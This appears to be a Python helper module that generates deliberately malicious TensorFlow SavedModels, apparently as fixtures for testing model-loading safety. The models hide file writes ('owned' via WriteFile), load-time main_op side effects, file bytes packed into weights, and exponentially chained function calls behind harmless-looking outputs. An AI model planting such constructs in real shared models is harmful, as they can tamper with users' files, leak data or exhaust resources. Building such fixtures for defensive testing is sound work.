"""Ways to write a SavedModel, with TensorFlow or past it."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any


def save(directory: Path, function: Callable[[Any], Any]) -> None:
    """Saves a function of float32 [batch, 4] as the signature `serving_default`, with one variable."""
    import tensorflow as tf

    module = tf.Module()
    module.weights = tf.Variable(tf.eye(4))
    spec = tf.TensorSpec([None, 4], tf.float32, "x")
    traced = tf.function(lambda x: {"y": function(x @ module.weights)}, input_signature=[spec])
    tf.saved_model.save(module, str(directory), signatures={"serving_default": traced})


def save_beside(directory: Path, effect: Callable[[Any], Any]) -> None:
    """Saves a model whose result is harmless, and that runs `effect` along a control edge."""
    import tensorflow as tf

    def run(x: Any) -> Any:
        with tf.name_scope("evil"):
            done = effect(x)
        with tf.control_dependencies([done]):
            return tf.identity(x)

    save(directory, run)


def save_with_main_op(directory: Path, main_op: Callable[[Any], Any]) -> None:
    """Saves a model of TensorFlow 1 that runs an operation when it is loaded.

    Args:
        directory: Of the model.
        main_op: Called with the model's variable, a float32 vector of 4096.
    """
    import tensorflow as tf

    v1 = tf.compat.v1
    graph = tf.Graph()
    with graph.as_default(), v1.Session(graph=graph) as session:
        x = v1.placeholder(tf.float32, [None, 4], "x")
        w = v1.get_variable("w", initializer=tf.zeros([4096]), use_resource=True)
        y = tf.identity(x + w[:4], "y")
        session.run(v1.global_variables_initializer())
        with tf.name_scope("evil"):
            operation = main_op(w)
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder = v1.saved_model.Builder(str(directory))
        builder.add_meta_graph_and_variables(
            session, ["serve"], {"serving_default": signature}, main_op=operation
        )
        builder.save()


def as_weights(text: Any) -> Any:
    """The first 4096 bytes of a string tensor as float32 numbers."""
    import tensorflow as tf

    return tf.cast(tf.io.decode_raw(text, tf.uint8, fixed_length=4096), tf.float32)


def edit(directory: Path, change: Callable[[Any], None]) -> None:
    """Saves a harmless model and changes its MetaGraphDef, as no API of TensorFlow would."""
    from tensorflow.core.protobuf import saved_model_pb2

    plain = directory.parent / ".plain"
    if not plain.exists():
        import tensorflow as tf

        save(plain, lambda x: tf.nn.relu(x, name="evil"))
    shutil.copytree(plain, directory)
    path = directory / "saved_model.pb"
    message = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    change(message.meta_graphs[0])
    path.write_bytes(message.SerializeToString(deterministic=True))


def find_relu(meta_graph: Any) -> tuple[Any, Any]:
    """The harmless model's function with its node `evil`, a Relu."""
    for function in meta_graph.graph_def.library.function:
        for node in function.node_def:
            if node.op == "Relu":
                return function, node
    raise AssertionError("the plain model has no Relu")


def replace_relu(meta_graph: Any, op: str, output: str = "output") -> Any:
    """Makes another operation of the node `evil`, whose first output has another name; returns it."""
    function, node = find_relu(meta_graph)
    for reader in function.node_def:
        for index, tensor in enumerate(reader.input):
            if tensor == "evil:activations:0":
                reader.input[index] = f"evil:{output}:0"
    for key, tensor in function.ret.items():
        if tensor == "evil:activations:0":
            function.ret[key] = f"evil:{output}:0"
    node.op = op
    return node


def call_function(node: Any, name: str, op: str = "PartitionedCall") -> None:
    """Makes a node with one float32 input call a function."""
    from tensorflow.core.framework import types_pb2

    node.op = op
    if "T" in node.attr:
        del node.attr["T"]
    node.attr["f"].func.name = name
    node.attr["Tin"].list.type.append(types_pb2.DT_FLOAT)
    node.attr["Tout"].list.type.append(types_pb2.DT_FLOAT)


def add_function(meta_graph: Any, name: str) -> Any:
    """An empty function from the float32 tensor `x` to the float32 tensor `y`."""
    from tensorflow.core.framework import types_pb2

    function = meta_graph.graph_def.library.function.add()
    function.signature.name = name
    function.signature.input_arg.add(name="x", type=types_pb2.DT_FLOAT)
    function.signature.output_arg.add(name="y", type=types_pb2.DT_FLOAT)
    function.ret["y"] = "last:output:0"
    return function


def chain_functions(meta_graph: Any, functions: int, calls: int) -> None:
    """`functions` functions, each of which calls the next one `calls` times, one after the other."""
    from tensorflow.core.framework import types_pb2

    call_function(replace_relu(meta_graph, "PartitionedCall"), "evil_0")
    for number in range(functions):
        function = add_function(meta_graph, f"evil_{number}")
        tensor = "x"
        for turn in range(calls if number + 1 < functions else 0):
            node = function.node_def.add(name=f"call_{turn}", input=[tensor])
            call_function(node, f"evil_{number + 1}")
            tensor = f"call_{turn}:output:0"
        last = function.node_def.add(name="last", op="Identity", input=[tensor])
        last.attr["T"].type = types_pb2.DT_FLOAT


def add_write(function: Any, path: str) -> None:
    """Adds the node `evil_write`, which writes a file."""
    from tensorflow.core.framework import types_pb2

    for name, text in (("evil_path", path), ("evil_text", "owned")):
        constant = function.node_def.add(name=name, op="Const")
        constant.attr["dtype"].type = types_pb2.DT_STRING
        constant.attr["value"].tensor.dtype = types_pb2.DT_STRING
        constant.attr["value"].tensor.string_val.append(text.encode())
        constant.attr["value"].tensor.tensor_shape.SetInParent()
    inputs = ["evil_path:output:0", "evil_text:output:0"]
    function.node_def.add(name="evil_write", op="WriteFile", input=inputs)
